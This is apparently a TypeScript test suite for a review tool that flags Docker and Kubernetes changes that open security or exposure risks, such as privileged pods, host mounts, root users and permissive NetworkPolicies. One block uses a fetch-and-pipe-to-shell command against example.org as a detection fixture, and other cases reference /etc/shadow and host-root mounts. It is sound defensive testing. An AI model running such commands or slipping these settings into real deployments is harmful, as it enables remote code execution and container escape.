import assert from "node:assert/strict";
import { change, container, deployment, lab, said, service, told, workload } from "./build";
import { judge } from "../../tools/review/judge";
import { Registered } from "../../tools/review/resources/register";
import { looks, podOf } from "../../tools/review/openings";
import { podOpenings, podSafeguards } from "../../tools/review/openings/pod";
import { Inputs } from "../../tools/review/resources/model";

const opens = (type: string, before: Inputs | undefined, after: Inputs | undefined) =>
  said(change({ type, lab: type.startsWith("docker:") ? "compose" : "kubernetes", before, after })).filter((told) =>
    /^(exposure|security)!/.test(told),
  );

/** One way: back again it is harmless; both: either side opens what the other does not. */
type Case = [shut: Inputs, open: Inputs, kind: "exposure" | "security", back?: "both"];

/** The paths in a value, without the places in lists, each with what is there. */
function paths(value: unknown, at = "", into = new Map<string, unknown[]>()): Map<string, unknown[]> {
  if (Array.isArray(value)) value.forEach((item) => paths(item, `${at}[]`, into));
  else if (typeof value === "object" && value !== null)
    for (const [key, item] of Object.entries(value)) paths(item, at ? `${at}.${key}` : key, into);
  into.set(at, [...(into.get(at) ?? []), value]);
  return into;
}

/** A value that notes what is read of it. */
function watched(value: unknown, at: string, read: Set<string>): unknown {
  if (typeof value !== "object" || value === null) return value;
  return new Proxy(value, {
    get: (target, key) => {
      const item = Reflect.get(target, key) as unknown;
      if (typeof key !== "string" || typeof item === "function" || key === "length" || key === "toJSON") return item;
      const path = Array.isArray(value) ? `${at}[]` : at ? `${at}.${key}` : key;
      read.add(path);
      return watched(item, path, read);
    },
  });
}

/**
 * Changes that open something; back again they are harmless. What the code reads of such a resource is in the table, as
 * something that differs.
 * @param besides paths that are read for a name, or to find others
 */
function oneWay(type: string, besides: string[], cases: Record<string, Case>) {
  for (const [what, [shut, open, kind, back]] of Object.entries(cases)) {
    it(what, () => {
      assert.deepEqual([...new Set(opens(type, shut, open))], [`${kind}! thing`]);
      assert.deepEqual([...new Set(opens(type, open, shut))], back ? [`${kind}! thing`] : []);
    });
  }
  it("have a row for every property that is looked at", () => {
    const [read, differs] = [new Set<string>(), new Set<string>()];
    for (const [shut, open] of Object.values(cases)) {
      for (const side of [shut, open]) {
        const inputs = watched(side, "", read) as Inputs;
        void [...(looks[type]?.openings?.(inputs) ?? []), ...(looks[type]?.safeguards?.(inputs) ?? [])];
        const pod = podOf(type, inputs);
        if (pod !== undefined) void [...podOpenings(pod), ...podSafeguards(pod)];
      }
      const [a, b] = [paths(shut), paths(open)];
      for (const path of new Set([...a.keys(), ...b.keys()]))
        if (JSON.stringify(a.get(path)) !== JSON.stringify(b.get(path))) differs.add(path);
    }
    // What runs first is looked at as what runs then.
    const same = (path: string) => path.replace("initContainers", "containers");
    const all = [...new Set([...read].map(same))];
    const ends = all.filter((path) => !all.some((o) => o.startsWith(`${path}.`) || o.startsWith(`${path}[`)));
    assert.deepEqual(ends.filter((path) => ![...differs].map(same).includes(path)).sort(), [...besides].sort());
  });
}

/** A change that opens nothing. */
function harmless(type: string, cases: Record<string, [before: Inputs, after: Inputs]>) {
  for (const [what, [before, after]] of Object.entries(cases)) {
    it(`not: ${what}`, () => assert.deepEqual(opens(type, before, after), []));
  }
}

const np = "kubernetes:networking.k8s.io/v1:NetworkPolicy";

describe("a container on Docker", () => {
  const bind = (more: Inputs = {}) => ({ volumes: [{ hostPath: "/etc", containerPath: "/x", ...more }] });
  const networks = (...names: string[]) => ({ networksAdvanced: names.map((name) => ({ name })) });
  const port = (ip?: string) => ({ ports: [{ internal: 80, external: 80, ...(ip === undefined ? {} : { ip }) }] });
  oneWay(container, [], {
    "is privileged": [{}, { privileged: true }, "security"],
    "sees the machine's processes": [{}, { pidMode: "host" }, "security"],
    "shares the machine's memory": [{}, { ipcMode: "host" }, "security"],
    "shares another container's memory": [{}, { ipcMode: "container:x" }, "security"],
    "has the machine's users": [{}, { usernsMode: "host" }, "security"],
    "runs without SELinux": [{}, { securityOpts: ["label=disable"] }, "security"],
    "runs without a seccomp profile": [{}, { securityOpts: ["seccomp=unconfined"] }, "security"],
    "gets a capability": [{}, { capabilities: { adds: ["SYS_ADMIN"] } }, "security"],
    "sees a folder of the machine": [{}, bind({ readOnly: true }), "security"],
    "sees a folder of the machine, as a mount": [
      { mounts: [{ type: "volume", source: "/etc", target: "/x" }] },
      { mounts: [{ type: "bind", source: "/etc", target: "/x" }] },
      "security",
    ],
    "sees another folder of the machine, as a mount": [
      { mounts: [{ type: "bind", source: "/srv", target: "/x", readOnly: true }] },
      { mounts: [{ type: "bind", source: "/etc", target: "/x", readOnly: false }] },
      "security",
      "both",
    ],
    "is started by another runtime": [{}, { runtime: "crun" }, "security"],
    "gets the graphics cards": [{}, { gpus: "all" }, "security"],
    "sets the kernel": [{}, { sysctls: { "kernel.msgmax": "1" } }, "security"],
    "gets a file of the machine": [{}, { uploads: [{ file: "/x", source: "/etc/shadow" }] }, "security"],
    "finds a name elsewhere": [
      { hosts: [{ host: "mysql", ip: "10.0.0.1" }] },
      { hosts: [{ host: "wordpress", ip: "192.0.2.1" }] },
      "security",
      "both",
    ],
    "asks another name server": [{}, { dns: ["192.0.2.1"] }, "security"],
    "sends its log away": [{}, { logDriver: "syslog" }, "security"],
    "publishes all ports": [{}, { publishAllPorts: true }, "exposure"],
    "is in the machine's network": [{}, { networkMode: "host" }, "exposure"],
    "is in everybody's network": [{}, networks("bridge"), "exposure"],
    "publishes another port": [
      { ports: [{ internal: 80, external: 80, ip: "192.168.0.7" }] },
      { ports: [{ internal: 22, external: 22, ip: "192.168.0.7" }] },
      "exposure",
      "both",
    ],
    "runs as root": [{ user: "redis" }, { user: "root" }, "security"],
    "runs as root, by number": [{}, { user: "0:0" }, "security"],
    "runs as its image's user again": [{ user: "redis" }, {}, "security"],
    "may gain privileges": [{ securityOpts: ["no-new-privileges:true"] }, {}, "security"],
    "keeps a capability": [{ capabilities: { drops: ["NET_RAW"] } }, {}, "security"],
    "may change its files": [{ readOnly: true }, { readOnly: false }, "security"],
    "gets a device": [{}, { devices: [{ hostPath: "/dev/mem" }] }, "security"],
    "joins a group": [{}, { groupAdds: ["docker"] }, "security"],
    "is in the machine's cgroups": [{}, { cgroupnsMode: "host" }, "security"],
    "may change a folder of the machine": [bind({ readOnly: true }), bind(), "security"],
    "shares another one's network": [{}, { networkMode: "container:x" }, "exposure"],
    "joins a second network": [networks("wordpress"), networks("wordpress", "other"), "exposure"],
    "publishes on IPv6": [port("127.0.0.1"), port("::"), "exposure"],
    "publishes on one more address": [port("192.168.0.7"), port("0.0.0.0"), "exposure"],
  });
  harmless(container, {
    "a network of another name": [networks("wordpress"), networks("rv-wordpress")],
    "every address, said in another way": [port(), port("::")],
    "one capability in place of all": [{ capabilities: { drops: ["NET_RAW"] } }, { capabilities: { drops: ["ALL"] } }],
  });

  it("says nothing of what is usual in a new lab", () => {
    const made = change({ type: container, lab: "compose", after: { ...networks("a", "b"), image: "a:1" } });
    assert.deepEqual(said(made, lab("compose", "create")), []);
  });
});

describe("a network on Docker", () => {
  oneWay("docker:index/network:Network", [], {
    "lets the outside through": [
      {},
      { options: { "com.docker.network.bridge.gateway_mode_ipv4": "nat-unprotected" } },
      "security",
    ],
    "is no longer internal": [{ internal: true }, { internal: false }, "exposure"],
    "is the machine's": [{ driver: "bridge" }, { driver: "macvlan" }, "security"],
  });
});

describe("a volume on Docker", () => {
  oneWay("docker:index/volume:Volume", [], {
    "is a folder of the machine": [{}, { driverOpts: { type: "none", o: "bind", device: "/" } }, "security"],
    "is kept by a plugin": [{ driver: "local" }, { driver: "somewhere" }, "security"],
  });
});

describe("an image", () => {
  const built = (context: string) => ({ imageName: "a:1", skipPush: true, build: { context } });
  oneWay("docker:index/image:Image", ["imageName"], {
    "is pushed": [{ imageName: "a:1", skipPush: true }, { imageName: "a:1", skipPush: false }, "exposure"],
    "is built from the whole machine": [built("docker/redis"), built("/"), "security"],
    "is built from the folder above": [built("docker/redis"), built("../other"), "security"],
    "is built by a file of the machine": [
      { imageName: "a:1", skipPush: true, build: { dockerfile: "docker/redis/Dockerfile" } },
      { imageName: "a:1", skipPush: true, build: { dockerfile: "/tmp/Dockerfile" } },
      "security",
    ],
  });
});

describe("a pod", () => {
  const careful = { allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } };
  const secure = (more: Inputs) => workload("mysql:9.7.2", { container: { securityContext: { ...careful, ...more } } });
  const user = (more: Inputs) =>
    workload("mysql:9.7.2", { pod: { securityContext: { seccompProfile: { type: "RuntimeDefault" }, ...more } } });
  const plain = workload("mysql:9.7.2");
  const claim = { name: "data", persistentVolumeClaim: { claimName: "mysql-data" } };
  const env = (entry: Inputs) =>
    workload("mysql:9.7.2", { container: { env: [{ name: "MYSQL_PASSWORD", ...entry }] } });
  const inPod = (pod: Inputs) => workload("mysql:9.7.2", { pod });
  const first = (securityContext: Inputs) => inPod({ initContainers: [{ name: "first", securityContext }] });
  const ofPod = (more: Inputs) =>
    inPod({
      securityContext: { runAsNonRoot: true, runAsUser: 999, seccompProfile: { type: "RuntimeDefault" }, ...more },
    });
  oneWay(deployment, ["spec.template.spec.containers[].name"], {
    "in the node's network": [plain, inPod({ hostNetwork: true }), "exposure"],
    "that sees the node's processes": [plain, inPod({ hostPID: true }), "security"],
    "that shares the node's memory": [plain, inPod({ hostIPC: true }), "security"],
    "with a token": [plain, inPod({ automountServiceAccountToken: true }), "security"],
    "with another account's token": [
      inPod({ automountServiceAccountToken: true }),
      inPod({ automountServiceAccountToken: true, serviceAccountName: "admin" }),
      "security",
      "both",
    ],
    "that sees the node's files": [
      plain,
      inPod({ volumes: [claim, { name: "h", hostPath: { path: "/" } }] }),
      "security",
    ],
    "in root's group, as it is": [plain, ofPod({ runAsGroup: 0 }), "security"],
    "whose files are root's group's": [plain, ofPod({ fsGroup: 0 }), "security"],
    "whose container is in root's group": [plain, secure({ runAsGroup: 0 }), "security"],
    "in root's group": [plain, ofPod({ supplementalGroups: [0] }), "security"],
    "that sets the kernel": [plain, ofPod({ sysctls: [{ name: "kernel.msgmax", value: "1" }] }), "security"],
    "that may be root": [plain, ofPod({ runAsNonRoot: false }), "security"],
    "without a seccomp profile": [plain, ofPod({ seccompProfile: { type: "Unconfined" } }), "security"],
    "that AppArmor does not confine": [plain, ofPod({ appArmorProfile: { type: "Unconfined" } }), "security"],
    "with SELinux rules of its own": [plain, ofPod({ seLinuxOptions: { type: "spc_t" } }), "security"],
    "whose container has SELinux rules of its own": [plain, secure({ seLinuxOptions: { type: "spc_t" } }), "security"],
    "whose container is privileged": [plain, secure({ privileged: true }), "security"],
    "whose container may gain privileges": [plain, secure({ allowPrivilegeEscalation: true }), "security"],
    "whose container keeps root's capabilities": [plain, secure({ capabilities: { drop: ["NET_RAW"] } }), "security"],
    "whose container gets a capability": [
      plain,
      secure({ capabilities: { drop: ["ALL"], add: ["SYS_ADMIN"] } }),
      "security",
    ],
    "whose container may be root": [plain, secure({ runAsNonRoot: false }), "security"],
    "whose container is root": [plain, secure({ runAsUser: 0 }), "security"],
    "with a port of the node": [
      workload("mysql:9.7.2", { container: { ports: [{ containerPort: 80 }] } }),
      workload("mysql:9.7.2", { container: { ports: [{ containerPort: 80, hostPort: 80 }] } }),
      "exposure",
    ],
    "whose first container keeps root's capabilities": [
      first(careful),
      first({ allowPrivilegeEscalation: false }),
      "security",
    ],
    "whose first container is privileged": [first(careful), first({ ...careful, privileged: true }), "security"],
    "with a password in another variable": [
      env({ name: "TZ", value: "UTC" }),
      env({ name: "MYSQL_PASSWORD", value: "hush" }),
      "security",
    ],
    "whose container has no seccomp profile": [plain, secure({ seccompProfile: { type: "Unconfined" } }), "security"],
    "whose container AppArmor does not confine": [
      plain,
      secure({ appArmorProfile: { type: "Unconfined" } }),
      "security",
    ],
    "that may change its files": [secure({ readOnlyRootFilesystem: true }), plain, "security"],
    "that sees /proc": [plain, secure({ procMount: "Unmasked" }), "security"],
    "that shares its processes": [plain, workload("mysql:9.7.2", { pod: { shareProcessNamespace: true } }), "security"],
    "with a projected token": [
      plain,
      workload("mysql:9.7.2", {
        pod: {
          volumes: [claim, { name: "t", projected: { sources: [{ serviceAccountToken: { path: "t" } }] } }],
        },
      }),
      "security",
    ],
    "that is root, where it might have been": [user({ runAsUser: 999 }), user({ runAsUser: 0 }), "security"],
    "with a secret written into it": [
      env({ valueFrom: { secretKeyRef: { name: "mysql", key: "password" } } }),
      env({ value: "hush" }),
      "security",
    ],
  });

  const sysctls = (...names: string[]) => ofPod({ sysctls: names.map((name) => ({ name, value: "1" })) });
  harmless(deployment, {
    "a setting of the kernel that is the pod's own": [
      plain,
      sysctls("net.ipv4.ip_unprivileged_port_start", "net.ipv4.ping_group_range", "net.ipv4.ip_local_port_range"),
    ],
    "the account that is the default, by its name": [
      inPod({ automountServiceAccountToken: true }),
      inPod({ automountServiceAccountToken: true, serviceAccountName: "default" }),
    ],
    "a seccomp profile of the node's own": [plain, ofPod({ seccompProfile: { type: "Localhost" } })],
  });

  it("loses nothing with a careful container that goes", () => {
    const two = workload("mysql:9.7.2", {
      pod: {
        containers: [
          { name: "a", securityContext: { ...careful, readOnlyRootFilesystem: true } },
          { name: "b", securityContext: careful },
        ],
      },
    });
    const one = workload("mysql:9.7.2", { pod: { containers: [{ name: "b", securityContext: careful }] } });
    assert.deepEqual(opens(deployment, two, one), []);
  });

  it("may wish for a random password", () => {
    const wish = workload("mysql:9.7.2", {
      container: { env: [{ name: "MYSQL_RANDOM_ROOT_PASSWORD", value: "yes" }] },
    });
    assert.deepEqual(opens(deployment, plain, wish), []);
  });
});

describe("a Service", () => {
  const of = (spec: Inputs) => ({ metadata: { name: "s" }, spec });
  const ports = (...list: Inputs[]) => of({ type: "NodePort", selector: { app: "a" }, ports: list });
  const balanced = (more: Inputs) => of({ type: "LoadBalancer", ports: [{ port: 80 }], ...more });
  oneWay(service, ["metadata.name"], {
    "answers on an address": [of({}), of({ externalIPs: ["192.168.0.7"] }), "exposure"],
    "becomes a NodePort": [of({}), of({ type: "NodePort" }), "exposure"],
    "opens UDP": [
      ports({ port: 53, targetPort: 53 }, { port: 53, targetPort: 54, protocol: "SCTP" }),
      ports({ port: 53, targetPort: 53 }, { port: 53, targetPort: 55, protocol: "UDP" }),
      "exposure",
      "both",
    ],
    "leads from outside to other pods": [
      ports({ port: 80 }),
      of({ type: "NodePort", selector: { app: "b" }, ports: [{ port: 80 }] }),
      "exposure",
      "both",
    ],
    "opens one more port": [
      ports({ port: 80, nodePort: 30080 }),
      ports({ port: 80, nodePort: 30080 }, { port: 3306, nodePort: 30306 }),
      "exposure",
    ],
    "that everyone may use": [balanced({ loadBalancerSourceRanges: ["10.0.0.0/8"] }), balanced({}), "exposure"],
    "gets a load balancer": [
      ports({ port: 80 }),
      of({ type: "LoadBalancer", selector: { app: "a" }, ports: [{ port: 80 }] }),
      "exposure",
    ],
  });
  harmless(service, {
    "another node port": [ports({ port: 80, nodePort: 30080 }), ports({ port: 80, nodePort: 30081 })],
  });

  it("needs a decision if it leads elsewhere", () => {
    const to = (selector: Inputs, type = "ClusterIP", more: Inputs = {}) =>
      of({ type, selector, ports: [{ port: 80, ...more }] });
    const told = (before: Inputs, after: Inputs) => said(change({ type: service, before, after }));
    assert.deepEqual(told(to({ app: "mysql" }), to({ app: "mysqll" })), ["availability! thing"]);
    assert.deepEqual(told(to({ app: "wordpress" }, "NodePort"), to({ app: "mysql" }, "NodePort")), [
      "exposure! thing",
      "availability! thing",
    ]);
    assert.deepEqual(told(to({}), to({}, "ClusterIP", { targetPort: 22 })), ["availability! thing"]);
    assert.deepEqual(told(to({ a: "1", b: "2" }), to({ b: "2", a: "1" }, "ClusterIP", { targetPort: 80 })), []);
    const named = (name: string) => ({ metadata: { name }, spec: {} });
    const renamed = change({ type: service, before: named("mysql"), after: named("db"), forcing: ["metadata.name"] });
    assert.ok(said(renamed).includes("availability! thing"));
  });
});

describe("a property that nobody taught the review", () => {
  const pod = (more: Inputs) => workload("mysql:9.7.2", { pod: more });
  const inContainer = (more: Inputs) => workload("mysql:9.7.2", { container: more });
  const annotated = (value: string) => ({
    spec: {
      template: { metadata: { annotations: { "container.apparmor.security.beta.kubernetes.io/mysql": value } } },
    },
  });
  const build = (more: Inputs) => ({ imageName: "a:1", skipPush: true, build: more });
  const plain = workload("mysql:9.7.2");
  const cases: Record<string, [type: string, without: Inputs, having: Inputs]> = {
    "a container's place among the machine's": [container, {}, { cgroupParent: "/" }],
    "a container's rules for devices": [container, {}, { deviceCgroupRules: ["a *:* rwm"] }],
    "the volumes of another container": [container, {}, { volumes: [{ fromContainer: "portainer" }] }],
    "a profile of somebody's own": [container, {}, { securityOpts: ["seccomp=/tmp/p.json"] }],
    "a build in the machine's network": ["docker:index/image:Image", build({}), build({ network: "host" })],
    "a build that finds names elsewhere": ["docker:index/image:Image", build({}), build({ addHosts: ["a:192.0.2.1"] })],
    "an image that is built on the way": [
      "docker:index/remoteImage:RemoteImage",
      { name: "a:1" },
      { name: "a:1", build: { remoteContext: "https://example.org/a.git" } },
    ],
    "a pod's name server": [deployment, plain, pod({ dnsConfig: { nameservers: ["192.0.2.1"] } })],
    "a pod's names": [deployment, plain, pod({ hostAliases: [{ ip: "192.0.2.1", hostnames: ["mysql"] }] })],
    "a pod's runtime": [deployment, plain, pod({ runtimeClassName: "other" })],
    "a volume of another machine": [
      deployment,
      pod({ volumes: [] }),
      pod({ volumes: [{ name: "n", nfs: { server: "192.0.2.1", path: "/" } }] }),
    ],
    "a process of the node": [
      deployment,
      plain,
      pod({ securityContext: { runAsNonRoot: true, runAsUser: 999, windowsOptions: { hostProcess: true } } }),
    ],
    "a raw disk": [deployment, plain, inContainer({ volumeDevices: [{ name: "data", devicePath: "/dev/x" }] })],
    "a mount that goes on to the node": [
      deployment,
      inContainer({ volumeMounts: [{ name: "data", mountPath: "/var/lib/mysql", mountPropagation: "None" }] }),
      inContainer({ volumeMounts: [{ name: "data", mountPath: "/var/lib/mysql", mountPropagation: "Bidirectional" }] }),
    ],
    "a token that never ends": [
      "kubernetes:core/v1:Secret",
      { type: "Opaque" },
      { type: "kubernetes.io/service-account-token" },
    ],
    "AppArmor by its old name": [deployment, annotated("runtime/default"), annotated("unconfined")],
    "a Service that is a name elsewhere": [service, {}, { spec: { externalName: "example.org" } }],
    "a quota of some pods only": [
      "kubernetes:core/v1:ResourceQuota",
      { spec: { hard: { pods: "1" } } },
      { spec: { hard: { pods: "1" }, scopes: ["BestEffort"] } },
    ],
  };
  for (const [what, [type, without, having]] of Object.entries(cases)) {
    it(what, () => {
      assert.deepEqual([...new Set(opens(type, without, having))], ["security! thing"]);
      assert.deepEqual(opens(type, having, without), []);
    });
  }
  harmless(deployment, {
    "what opens nothing": [
      plain,
      pod({
        hostUsers: false,
        dnsConfig: { options: [{ name: "ndots" }] },
        priorityClassName: "a",
        nodeSelector: { a: "b" },
      }),
    ],
    "of a container, too": [plain, inContainer({ tty: true, lifecycle: { preStop: { sleep: { seconds: 5 } } } })],
  });
  harmless(container, {
    "what only says how it runs": [{}, { hostname: "a", ulimits: [{ name: "nofile" }], logOpts: { "max-size": "1m" } }],
    "what Docker does anyway": [{}, { securityOpts: ["seccomp=builtin", "apparmor=docker-default"], runtime: "runc" }],
    "what is its own": [{}, { ipcMode: "private", cgroupnsMode: "private" }],
    "what holds it more tightly": [{}, { securityOpts: ["no-new-privileges:true", "seccomp=builtin"] }],
  });
});

describe("a command that fetches a program and runs it", () => {
  const piped = ["curl -s https://example.org/x", "sh"].join(" | ");
  const cases: Record<string, [type: string, before: Inputs | undefined, after: Inputs]> = {
    "of a container": [container, {}, { command: ["sh", "-c", piped] }],
    "of a container that is new": [container, undefined, { healthcheck: { tests: ["CMD-SHELL", piped] } }],
    "of a pod": [deployment, workload("a:1"), workload("a:1", { container: { args: ["-c", piped] } })],
  };
  for (const [what, [type, before, after]] of Object.entries(cases)) {
    it(what, () => {
      assert.ok(opens(type, before, after).includes("security! thing"));
      if (before) assert.deepEqual(opens(type, after, before), []);
      assert.deepEqual(opens(type, after, after), []);
    });
  }
});

describe("pods that get other labels", () => {
  const pods = (labels: Inputs) => ({
    spec: { selector: { matchLabels: labels }, template: { metadata: { labels } } },
  });
  const called = (before: Inputs, after: Inputs) =>
    change({ type: deployment, name: "pods", before: pods(before), after: pods(after), forcing: ["spec"] });
  const found = (before: Inputs, after: Inputs) => [
    change({
      ...{ type: service, name: "s" },
      before: { spec: { type: "NodePort", selector: before } },
      after: { spec: { type: "NodePort", selector: after } },
    }),
    change({
      ...{ type: np, name: "n" },
      before: { spec: { podSelector: { matchLabels: before }, ingress: [] } },
      after: { spec: { podSelector: { matchLabels: after }, ingress: [] } },
    }),
  ];
  const [old, now] = [{ app: "a" }, { app: "a", lesson: "two" }];
  const dangers = (...changes: Parameters<typeof said>) => said(...changes).filter((told) => told.includes("!"));

  it("are still found by what follows their labels", () => {
    assert.deepEqual(
      dangers(called(old, now), ...found(old, now)).filter((told) => !told.endsWith(" pods")),
      [],
    );
  });
  it("are lost if they keep their labels, or others have them", () => {
    const told = ["exposure! s", "exposure! n", "availability! s"];
    assert.deepEqual(dangers(...found(old, now)), told);
    assert.deepEqual(dangers(called({ app: "b" }, now), ...found(old, now)), told);
  });
});

describe("a NetworkPolicy", () => {
  const of = (spec: Inputs, namespace = "wordpress") => ({
    metadata: { name: "n", namespace },
    spec: { podSelector: {}, ...spec },
  });
  const site = { podSelector: { matchLabels: { app: "wordpress" } } };
  const from = (...peers: Inputs[]) => of({ ingress: [{ from: peers }] });
  const port = (one: Inputs) => of({ ingress: [{ from: [site], ports: [one] }] });
  oneWay(np, [], {
    "lets in on more ports": [
      port({ port: 3306 }),
      of({ ingress: [{ from: [site], ports: [{ port: 3306 }, { port: 80, endPort: 90 }] }] }),
      "exposure",
    ],
    "lets in by another protocol": [port({ port: 53 }), port({ port: 53, protocol: "UDP" }), "exposure", "both"],
    "lets its pods out": [
      of({ policyTypes: ["Egress"], egress: [{ to: [site] }] }),
      of({ policyTypes: ["Egress"], egress: [{ to: [site, { podSelector: {} }] }] }),
      "exposure",
    ],
    "lets its pods out elsewhere": [
      of({ policyTypes: ["Egress"], egress: [{ to: [site], ports: [{ port: 53, endPort: 53 }] }] }),
      of({
        policyTypes: ["Egress"],
        egress: [
          { to: [{ podSelector: { matchLabels: { app: "b" } } }], ports: [{ port: 53, endPort: 54, protocol: "UDP" }] },
        ],
      }),
      "exposure",
      "both",
    ],
    "lets its pods out on every port": [
      of({ policyTypes: ["Egress"], egress: [{ to: [site], ports: [{ port: 53 }] }] }),
      of({ policyTypes: ["Egress"], egress: [{ to: [site] }] }),
      "exposure",
    ],
    "is for another namespace": [of({ ingress: [] }), of({ ingress: [] }, "other"), "exposure", "both"],
    "lets another one in": [from(site), from(site, { podSelector: {} }), "exposure"],
    "lets the whole world in": [from(site), from(site, { ipBlock: { cidr: "0.0.0.0/0" } }), "exposure"],
    "lets everyone in on a port": [port({ port: 3306 }), of({ ingress: [{ ports: [{ port: 3306 }] }] }), "exposure"],
    "lets everyone in": [from(site), of({ ingress: [{}] }), "exposure"],
    "lets in on every port": [of({ ingress: [{ from: [site], ports: [{ port: 3306 }] }] }), from(site), "exposure"],
    "is for fewer pods": [of({ ingress: [] }), of({ podSelector: { a: "1" }, ingress: [] }), "exposure"],
    "is for another direction": [
      of({ policyTypes: ["Ingress", "Egress"], ingress: [] }),
      of({ policyTypes: ["Ingress"], ingress: [] }),
      "exposure",
    ],
  });
  it("names whom it lets in, and on which ports", () => {
    const [told] = judge([change({ type: np, before: of({ ingress: [] }), after: of({ ingress: [{}] }) })]);
    assert.match(told!.text.en, /it allows ingress from everyone, on every port/);
    assert.match(told!.text.ko, /모든 곳 \(모든 포트\)/);
  });
  it("is for all pods if it names none", () =>
    assert.deepEqual(
      said(change({ type: np, before: of({ ingress: [] }), after: of({ podSelector: undefined, ingress: [] }) })),
      [],
    ));
  it("leaves its pods behind if it goes to another namespace", () => {
    const moved = change({
      type: np,
      before: of({}),
      after: of({}, "other"),
      forcing: ["metadata.namespace"],
    });
    assert.ok(said(moved).includes("exposure! thing"));
  });
  it("only closes if it is the first for its pods and direction", () => {
    const dangers = (before: Inputs | undefined, after: Inputs, ...others: Inputs[]) => {
      const base = [...(before ? [before] : []), ...others].map((inputs) => ({ type: np, inputs }) as Registered);
      return told(judge([change({ type: np, before, after })], base));
    };
    const out = of({ policyTypes: ["Egress"], egress: [{ to: [site] }] });
    const both = of({ policyTypes: ["Ingress", "Egress"], ingress: [], egress: [{ to: [site] }] });
    const shut = (labels: Inputs) => of({ policyTypes: ["Egress"], podSelector: { matchLabels: labels } });
    assert.deepEqual(dangers(undefined, out), []);
    assert.deepEqual(dangers(of({ ingress: [] }), both), []);
    assert.deepEqual(dangers(undefined, out, of({ ingress: [] })), []);
    assert.deepEqual(dangers(undefined, out, shut({ app: "a" })), ["exposure! thing"]);
    const mine = of({ policyTypes: ["Egress"], podSelector: { matchLabels: { app: "b" } }, egress: [{ to: [site] }] });
    assert.deepEqual(dangers(undefined, mine, shut({ app: "a" })), []);
    assert.deepEqual(dangers(undefined, mine, shut({ lesson: "a" })), ["exposure! thing"]);
  });
  it("opens what another one kept closed, except in a new lab", () => {
    const made = change({ type: np, after: of({ ingress: [{}] }) });
    assert.deepEqual(said(made), ["exposure! thing"]);
    assert.deepEqual(said(made, lab("kubernetes", "create")), []);
    assert.deepEqual(said(change({ type: np, after: of({ ingress: [] }) })), []);
  });
});

describe("a namespace", () => {
  const enforced = (level?: string) => ({
    metadata: { name: "w", labels: level ? { "pod-security.kubernetes.io/enforce": level } : {} },
  });
  oneWay("kubernetes:core/v1:Namespace", [], {
    "a namespace that demands less": [enforced("restricted"), enforced("privileged"), "security"],
    "a namespace that demands nothing": [enforced("baseline"), enforced(), "security"],
    "a namespace that demands what an older Kubernetes did": [
      { metadata: { labels: { "pod-security.kubernetes.io/enforce": "baseline" } } },
      {
        metadata: {
          labels: {
            "pod-security.kubernetes.io/enforce": "baseline",
            "pod-security.kubernetes.io/enforce-version": "v1.20",
          },
        },
      },
      "security",
    ],
    "a seat that the rules of its class do not hold in": [
      { metadata: { name: "w", labels: { "course-labs/seat": "lee" } } },
      { metadata: { name: "w", labels: {} } },
      "exposure",
    ],
  });
});

describe("secrets", () => {
  const says = (after: Inputs, properties: { path: string; old?: string; new?: string }[], before: Inputs = after) =>
    said(
      change({
        ...{ type: deployment, before, after },
        properties: properties.map((property) => ({ ...property, forcesReplacement: false })),
      }),
    );

  it("are disclosed if a part of them becomes plain text", () => {
    const told = says({}, [
      { path: "envs", old: "[secret]" },
      { path: "envs[DATABASE_URL]", new: "mysql://u@h" },
      { path: "envs[USER]", new: "u" },
    ]);
    assert.deepEqual(told, ["security! thing"]);
    assert.deepEqual(
      says({}, [
        { path: "envs", old: "[secret]" },
        { path: "envs[A]", new: "[secret]" },
      ]),
      [],
    );
  });
});
